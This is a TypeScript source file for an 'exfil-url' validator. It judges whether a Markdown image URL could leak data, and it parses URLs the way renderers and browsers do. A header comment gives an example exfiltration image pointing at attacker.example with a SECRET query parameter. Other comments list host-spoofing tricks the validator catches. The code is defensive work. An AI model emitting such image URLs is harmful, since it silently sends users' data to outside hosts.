/**
 * The `exfil-url` validator: is a Markdown image an exfiltration risk?
 *
 * A rendered image is fetched by the browser without any click, so an image URL
 * is a channel out of the page: `![](https://attacker.example/p.png?d=SECRET)`.
 * Given the candidate text of an inline image `![alt](destination "title")`
 * (or a bare destination) and the hosts the user allows images from, the verdict
 * is risky when
 * - the URL is absolute http(s) or protocol-relative (`//host`) and its host is
 *   neither an allowed host nor a subdomain of one, or
 * - the URL carries a query string or a fragment (even on an allowed host), or
 * - it is a `data:` URL or uses any other scheme (fail closed), or
 * - the candidate is cut off or malformed, so where the destination really ends
 *   cannot be told (no `](` after the alt text, no closing `)`, an unclosed `<`,
 *   an unbalanced `(`, an escaped closing parenthesis).
 * Relative URLs without query or fragment are not risky.
 *
 * Parsing follows what Markdown renderers and browsers actually do rather than
 * `new URL`: CommonMark backslash escapes and character references are decoded
 * first; then, like the WHATWG URL parser for special schemes, tabs and newlines
 * are removed, backslashes count as slashes (`https:\\evil.com`, `\\evil.com`),
 * any run of slashes after the scheme is skipped (`https:evil.com`,
 * `https:///evil.com`), userinfo is dropped (`https://ok.com@evil.com`), the
 * host is percent-decoded, NFKC-normalised (full-width letters, ideographic full
 * stops) and lower-cased, and ports and trailing dots are ignored.
 */

export interface ExfilUrlVerdict {
  /** True when the image must be neutralised. */
  risky: boolean;
  /**
   * What the replacement names: the URL's host (lower-case, `[…]` for IPv6),
   * `data:` (or `<scheme>:`) for a URL without a host, `''` for a relative URL.
   * Sanitised for display: at most 100 characters, no markup characters.
   */
  host: string;
}

interface Destination {
  dest: string;
  /** The candidate does not contain the whole destination. */
  incomplete: boolean;
}

/** The units of `[ \t\n\r\f\v]`, tested by code (a regular expression per unit was a hot spot). */
function isWhitespace(c: number): boolean {
  return c === 0x20 || (c >= 0x09 && c <= 0x0d);
}

/**
 * Index of the `]` that closes the alt text of `![alt](…)` / `[text](…)` and is
 * followed by `(`: brackets nest (`![a [b](c) d](url)` is one image whose
 * destination is `url`) and backslash escapes are literal. Falls back to the
 * first `](` when the brackets do not balance; -1 when there is none.
 */
function altEnd(text: string): number {
  let depth = 0;
  for (let i = text.indexOf('['); i >= 0 && i < text.length; i++) {
    const c = text.charAt(i);
    if (c === '\\') {
      i++;
    } else if (c === '[') {
      depth++;
    } else if (c === ']') {
      depth--;
      if (depth === 0) {
        if (text.charAt(i + 1) === '(') return i;
        break;
      }
    }
  }
  return text.indexOf('](');
}

/** Pull the link destination out of `![alt](dest "title")`, or a bare destination. */
function extractDestination(text: string): Destination {
  let inner = text;
  let incomplete = false;
  const bracketed = text.startsWith('![') || text.startsWith('[');
  const open = bracketed ? altEnd(text) : -1;
  // An image cut off inside its alt text (it ran past the rule's bound): fail closed.
  if (bracketed && open < 0) return { dest: '', incomplete: true };
  if (open >= 0) {
    inner = text.slice(open + 2);
    if (inner.endsWith(')')) inner = inner.slice(0, -1);
    else incomplete = true;
  }
  let i = 0;
  while (i < inner.length && isWhitespace(inner.charCodeAt(i))) i++;
  if (inner.charAt(i) === '<') {
    // `<…>`: no line endings, no unescaped `<` or `>` inside.
    let j = i + 1;
    while (j < inner.length) {
      const c = inner.charAt(j);
      if (c === '\\' && j + 1 < inner.length) {
        j += 2;
        continue;
      }
      if (c === '>' || c === '<' || c === '\n' || c === '\r') break;
      j++;
    }
    if (inner.charAt(j) === '>') return { dest: inner.slice(i + 1, j), incomplete };
    // No valid closing `>`: not a destination a renderer would accept as is.
    let k = i + 1;
    while (k < inner.length && !isWhitespace(inner.charCodeAt(k))) k++;
    return { dest: inner.slice(i + 1, k), incomplete: true };
  }
  // Bare destination: up to whitespace; parentheses must balance.
  let j = i;
  let depth = 0;
  while (j < inner.length) {
    const c = inner.charAt(j);
    const code = inner.charCodeAt(j);
    if (isWhitespace(code) || code < 0x20) break;
    if (c === '\\' && j + 1 < inner.length && !isWhitespace(inner.charCodeAt(j + 1))) {
      j += 2;
      continue;
    }
    if (c === '(') depth++;
    else if (c === ')') {
      if (depth === 0) break;
      depth--;
    }
    j++;
  }
  const dest = inner.slice(i, j);
  if (depth > 0) incomplete = true;
  // A destination ending in an odd run of backslashes escaped the `)` that ended the candidate.
  // A bare URL has no `)` to escape: backslashes after it are a shell or roff line
  // continuation (`curl https://api.example.com/v1` and a backslash), not part of the URL.
  const trailing = /\\+$/.exec(dest);
  if (trailing !== null && !bracketed) return { dest: dest.slice(0, trailing.index), incomplete };
  if (trailing !== null && trailing[0].length % 2 === 1) incomplete = true;
  return { dest, incomplete };
}

/** Named character references that can change how a URL parses (and the usual ones). */
// prettier-ignore
const NAMED_REFERENCES: Readonly<Record<string, string>> = {
  amp: '&', AMP: '&', lt: '<', LT: '<', gt: '>', GT: '>', quot: '"', QUOT: '"', apos: "'",
  colon: ':', sol: '/', bsol: '\\', quest: '?', num: '#', period: '.', commat: '@',
  percnt: '%', equals: '=', excl: '!', lpar: '(', rpar: ')', lsqb: '[', rsqb: ']',
  lbrack: '[', rbrack: ']', lowbar: '_', plus: '+', comma: ',', semi: ';', dollar: '$',
  ast: '*', midast: '*', verbar: '|', vert: '|', lcub: '{', rcub: '}', lbrace: '{',
  rbrace: '}', grave: '`', Hat: '^', Tab: '\t', NewLine: '\n', nbsp: '\u00a0',
};

/** ASCII punctuation except the backslash itself. */
const ESCAPABLE = /[!-/:-@[\]-`{-~]/;

/**
 * CommonMark backslash escapes and character references. An escaped backslash
 * (`\\`) is kept as two backslashes: CommonMark renderers make it one, others
 * do not, and for the URL parser more slashes can only make a host more likely
 * (`\\evil.example` is protocol-relative), so keeping both fails closed.
 */
function decodeMarkdown(s: string): string {
  // Nearly every destination has neither: nothing to decode.
  if (!s.includes('\\') && !s.includes('&')) return s;
  let out = '';
  let i = 0;
  while (i < s.length) {
    const c = s.charAt(i);
    if (c === '\\' && i + 1 < s.length && ESCAPABLE.test(s.charAt(i + 1))) {
      out += s.charAt(i + 1);
      i += 2;
      continue;
    }
    if (c === '&') {
      const m = /^&(?:#([0-9]{1,7})|#[xX]([0-9a-fA-F]{1,6})|([A-Za-z][A-Za-z0-9]{1,31}));/.exec(
        s.slice(i, i + 40),
      );
      if (m !== null) {
        const [whole, dec, hex, name] = m;
        let decoded: string | undefined;
        if (dec !== undefined || hex !== undefined) {
          const cp = dec !== undefined ? Number.parseInt(dec, 10) : Number.parseInt(hex ?? '', 16);
          const valid = cp > 0 && cp <= 0x10ffff && !(cp >= 0xd800 && cp <= 0xdfff);
          decoded = String.fromCodePoint(valid ? cp : 0xfffd);
        } else if (name !== undefined) {
          decoded = NAMED_REFERENCES[name];
        }
        if (decoded !== undefined) {
          out += decoded;
          i += whole.length;
          continue;
        }
      }
    }
    out += c;
    i++;
  }
  return out;
}

/** Decode `%XX` sequences one byte at a time where they form valid UTF-8; leave the rest. */
function percentDecode(s: string): string {
  if (!s.includes('%')) return s;
  return s.replace(/(?:%[0-9A-Fa-f]{2})+/g, (run) => {
    try {
      return decodeURIComponent(run);
    } catch {
      // Invalid UTF-8: decode the ASCII bytes only.
      return run.replace(/%([0-7][0-9A-Fa-f])/g, (_m, h: string) =>
        String.fromCharCode(Number.parseInt(h, 16)),
      );
    }
  });
}

/** Host comparison form: percent-decoded, NFKC, ideographic dots as dots, lower-case, no trailing dots. */
function normaliseHost(raw: string): string {
  // ASCII without escapes is its own NFKC form and has no ideographic dots: lower-case only.
  if (/^[\u0000-\u007f]*$/.test(raw) && !raw.includes('%')) {
    return raw.toLowerCase().replace(/\.+$/, '');
  }
  let host = percentDecode(raw).normalize('NFKC');
  host = host.replace(/[\u3002\uff0e\uff61]/g, '.').toLowerCase();
  return host.replace(/\.+$/, '');
}

/** An allow-list entry: `example.com`, `.example.com`, `*.example.com`, `::1`, `[::1]`, with or without port. */
function normaliseAllowedHost(entry: string): string {
  let h = entry.trim();
  if (h.startsWith('*.')) h = h.slice(2);
  else if (h.startsWith('.')) h = h.slice(1);
  if (h.includes(':') && !h.startsWith('[')) {
    // `host:port`, or a bare IPv6 address (two or more colons).
    const colons = h.split(':').length - 1;
    h = colons >= 2 ? `[${h}]` : (h.split(':')[0] ?? '');
  } else if (h.startsWith('[')) {
    const end = h.indexOf(']');
    if (end >= 0) h = h.slice(0, end + 1);
  }
  return normaliseHost(h);
}

export function hostIsAllowed(host: string, allowedHosts: readonly string[]): boolean {
  if (host === '') return false;
  for (const entry of allowedHosts) {
    const allowed = normaliseAllowedHost(entry);
    if (allowed === '') continue;
    if (host === allowed || host.endsWith(`.${allowed}`)) return true;
  }
  return false;
}

/** Make the host safe to show inside a placeholder: no markup, bounded length. */
function displayHost(host: string): string {
  const safe = host.replace(/[^\p{L}\p{N}.\-_:[\]]/gu, '?');
  return safe.length > 100 ? `${safe.slice(0, 97)}...` : safe;
}

interface Authority {
  host: string;
  /** Everything after the authority (path, query, fragment). */
  rest: string;
}

/** `rest` starts right after the scheme's slashes (or the protocol-relative slashes). */
function parseAuthority(afterSlashes: string): Authority {
  const end = afterSlashes.search(/[/\\?#]/);
  const authority = end < 0 ? afterSlashes : afterSlashes.slice(0, end);
  const rest = end < 0 ? '' : afterSlashes.slice(end);
  const at = authority.lastIndexOf('@');
  const hostPort = at >= 0 ? authority.slice(at + 1) : authority;
  let host: string;
  if (hostPort.startsWith('[')) {
    const close = hostPort.indexOf(']');
    host = close >= 0 ? hostPort.slice(0, close + 1) : hostPort;
  } else {
    const colon = hostPort.indexOf(':');
    host = colon >= 0 ? hostPort.slice(0, colon) : hostPort;
  }
  return { host: normaliseHost(host), rest };
}

/** The normalised host of `afterSlashes` (what follows the scheme's slashes), not shortened for display. */
export function authorityHost(afterSlashes: string): string {
  return parseAuthority(afterSlashes).host;
}

/**
 * The URL a renderer would use for `![alt](dest)`, `[text](dest)` or a bare
 * destination, as the browser's URL parser sees it (Markdown escapes and
 * character references decoded, C0 controls and spaces trimmed, tabs and
 * newlines removed), and whether the candidate was cut off. Shared with the
 * `exfil-link` validator.
 */
export function destinationUrl(text: string): { url: string; incomplete: boolean } {
  const { dest, incomplete } = extractDestination(text);
  return { url: urlParserInput(decodeMarkdown(dest)), incomplete };
}

/** C0 controls and spaces trimmed, tabs and newlines removed (WHATWG URL parsing, basic URL parser). */
function urlParserInput(decoded: string): string {
  let from = 0;
  let to = decoded.length;
  while (from < to && decoded.charCodeAt(from) <= 0x20) from++;
  while (to > from && decoded.charCodeAt(to - 1) <= 0x20) to--;
  const trimmed = from === 0 && to === decoded.length ? decoded : decoded.slice(from, to);
  return /[\t\n\r]/.test(trimmed) ? trimmed.replace(/[\t\n\r]/g, '') : trimmed;
}

export function exfilUrlVerdict(text: string, allowedHosts: readonly string[]): ExfilUrlVerdict {
  const { url, incomplete } = destinationUrl(text);
  return exfilUrlVerdictOf(url, incomplete, allowedHosts);
}

/** `exfilUrlVerdict` of a destination already read (`destinationUrl`): exfil-link reads it once. */
export function exfilUrlVerdictOf(
  url: string,
  incomplete: boolean,
  allowedHosts: readonly string[],
): ExfilUrlVerdict {
  const scheme = /^([A-Za-z][A-Za-z0-9+.-]*):/.exec(url);
  if (scheme !== null) {
    const name = (scheme[1] ?? '').toLowerCase();
    const afterColon = url.slice(scheme[0].length);
    if (name === 'http' || name === 'https') {
      const { host, rest } = parseAuthority(afterColon.replace(/^[/\\]+/, ''));
      const risky = incomplete || !hostIsAllowed(host, allowedHosts) || /[?#]/.test(rest);
      return { risky, host: displayHost(host) };
    }
    if (/^[/\\]{2}/.test(afterColon)) {
      const { host } = parseAuthority(afterColon.replace(/^[/\\]+/, ''));
      return { risky: true, host: displayHost(host === '' ? `${name}:` : host) };
    }
    // data:, javascript:, blob:, anything else: never an allowed image source.
    return { risky: true, host: displayHost(`${name}:`) };
  }

  if (/^[/\\]{2}/.test(url)) {
    const { host, rest } = parseAuthority(url.replace(/^[/\\]+/, ''));
    const risky = incomplete || !hostIsAllowed(host, allowedHosts) || /[?#]/.test(rest);
    return { risky, host: displayHost(host) };
  }

  // Relative: fetched from the chat site itself; only data in a query or fragment is a risk.
  return { risky: incomplete || /[?#]/.test(url), host: '' };
}
